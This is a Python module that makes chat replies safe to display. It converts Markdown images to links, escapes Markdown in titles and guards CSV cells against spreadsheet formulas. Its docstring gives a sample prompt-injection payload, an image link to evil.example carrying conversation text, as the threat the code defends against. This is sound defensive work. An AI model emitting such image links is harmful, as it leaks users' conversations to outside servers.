"""Making conversation text safe to show: no remote images, no markup in labels, no formulas in spreadsheets.

Replies and messages are rendered as Markdown. An image in Markdown is fetched by the browser as soon as it is
shown, so a reply steered by prompt injection (``![x](https://evil.example/?q=<conversation text>)``) could
send conversation text to a stranger's server. Images are therefore turned into ordinary links, which stay
visible and load nothing until someone chooses to follow them.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# "![" opens an inline (``![alt](url)``) or reference (``![alt][ref]``) image; without its "!" it is a link.
_IMAGE_OPENER = re.compile(r"!\[")
IMAGE_LINK_PREFIX = "["
IMAGE_LABEL = "Image: "
_MARKDOWN_SPECIALS = frozenset("\\`*_{}[]()#+-.!<>|~:$")
# A cell that a spreadsheet would run as a formula (OWASP's list: = + - @, tab and carriage return).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def without_remote_images(text: str) -> str:
    """``text`` with every Markdown image made a text link (``![a](u)`` -> ``[Image: a](u)``)."""
    return _IMAGE_OPENER.sub(IMAGE_LINK_PREFIX + IMAGE_LABEL, text)


def stream_without_remote_images(chunks: Iterable[str]) -> Iterator[str]:
    """``without_remote_images`` for a streamed reply: a "!" that ends a chunk waits for the next one, so an
    image split across two chunks is caught too."""
    pending = ""
    for chunk in chunks:
        text = pending + chunk
        pending = "!" if text.endswith("!") else ""
        text = text[:-1] if pending else text
        if text:
            yield without_remote_images(text)
    if pending:
        yield pending


def escape_markdown(text: str) -> str:
    """``text`` shown literally where Markdown is rendered (titles in labels and headings): no links,
    images, headings or emphasis, whatever the text contains."""
    return "".join("\\" + char if char in _MARKDOWN_SPECIALS else char for char in text)


def spreadsheet_safe(value: object) -> object:
    """A CSV cell a spreadsheet shows as text: strings that would start a formula get a leading quote."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value
